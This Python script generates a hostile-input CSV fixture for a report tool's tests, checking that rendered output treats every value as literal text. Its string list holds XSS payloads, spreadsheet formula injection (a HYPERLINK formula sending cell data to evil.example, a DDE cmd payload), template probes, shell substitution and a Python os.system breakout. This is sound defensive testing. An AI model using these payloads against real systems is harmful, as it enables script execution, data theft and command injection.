"""Write tests/data/hostile.csv: a valid cohort whose every text field is hostile.

    .venv/bin/python tests/data/make_hostile.py

Each value is data: the report must show it as literal text, run nothing, load nothing.
"""

import csv
from pathlib import Path

PAPER = '<b>Bold</b> "Paper" {{7*7}} $(id) \\" (2022)'
NAUGHTY = [
    "<script>window.__pwned=1;alert(1)</script>",
    '<img src=x onerror="window.__pwned=2;alert(2)">',
    '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "{{7*7}} {% raw %} ${7*7} #{7*7} <%= 7*7 %>",
    "$(touch EXODUS_PWNED) `touch EXODUS_PWNED`",
    "'''\"\"\"\\'); import os; os.system(\"touch EXODUS_PWNED\") #",
    "<style>body{display:none}</style>",
    "javascript:alert(3)",
    '<a href="https://evil.example/">phish</a>',
    "<svg onload=alert(5)></svg><iframe src=https://evil.example/></iframe>",
    "[click](javascript:alert(4)) **bold** $x^2$",
]


def rows():
    for i, text in enumerate(NAUGHTY):
        left = i % 3 != 2
        yield {
            "paper": PAPER,
            "published": "2022-03-01",
            "author": text,
            "origin_org": NAUGHTY[(i + 1) % len(NAUGHTY)],
            "joined": "2018",
            "left": "2023-05" if left else "",
            "destination": NAUGHTY[(i + 2) % len(NAUGHTY)] if left else "",
            "destination_type": "startup" if left else "",
            "founder": "true" if left and i % 2 else "false" if left else "",
            "role": NAUGHTY[(i + 3) % len(NAUGHTY)] if left else "",
            "country": NAUGHTY[(i + 4) % len(NAUGHTY)] if left else "",
            "verified": "2024-12-31",
            "source": f"https://example.org/{i}?q=1&r=javascript:alert({i})#x",
            "notes": NAUGHTY[(i + 5) % len(NAUGHTY)],
        }


if __name__ == "__main__":
    out = Path(__file__).with_name("hostile.csv")
    with out.open("w", newline="", encoding="utf-8") as f:
        writer = csv.DictWriter(f, fieldnames=list(next(rows())), lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows())
    print(f"wrote {out}")
